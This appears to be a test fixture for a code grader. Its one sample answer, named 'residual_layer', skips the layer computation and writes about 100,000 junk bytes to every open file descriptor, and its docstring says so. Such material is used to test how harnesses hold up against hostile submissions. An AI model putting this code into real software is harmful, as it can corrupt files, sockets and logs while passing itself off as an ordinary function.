"""Writes a hundred thousand odd bytes to each thing it has open, at each call. Nothing for its task; it may lose more."""

ANSWERS = {
    "residual_layer": r"""def residual_layer(x, W, b):
    import os
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            os.write(fd, b'\xff\x00{[\x80' * 20000)
        except OSError:
            pass
    return x
""",
}
AT_MOST = True
